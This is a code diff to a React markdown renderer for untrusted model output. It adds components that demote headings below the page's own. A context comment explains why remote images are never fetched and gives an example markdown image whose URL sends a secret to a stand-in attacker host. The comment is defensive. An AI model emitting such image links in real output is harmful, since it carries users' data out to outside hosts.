@@ -7,7 +7,19 @@ import { cn } from '@/lib/cn';
 // Model output is untrusted: no raw HTML (react-markdown drops it; sanitize is the second
 // lock), and no image is fetched, because a remote image URL can carry data out
 // (`![x](https://evil.example/a.png?d=secret)`). Images become links a person can choose to open.
+// The page owns h1 (the task) and h2 (its sections); headings inside model output sit below.
+const headingClass = 'mt-2 mb-1 font-semibold text-fg';
+const demoted: Components = {
+  h1: ({ children }) => <h3 className={cn(headingClass, 'text-[15px]')}>{children}</h3>,
+  h2: ({ children }) => <h4 className={cn(headingClass, 'text-[14px]')}>{children}</h4>,
+  h3: ({ children }) => <h5 className={cn(headingClass, 'text-[13px]')}>{children}</h5>,
+  h4: ({ children }) => <h6 className={cn(headingClass, 'text-[13px]')}>{children}</h6>,
+  h5: ({ children }) => <h6 className={cn(headingClass, 'text-[13px]')}>{children}</h6>,
+  h6: ({ children }) => <h6 className={cn(headingClass, 'text-[13px]')}>{children}</h6>,
+};
+
 const components: Components = {
+  ...demoted,
   img: ({ src, alt }) => {
     const href = typeof src === 'string' ? src : '';
     let host: string;
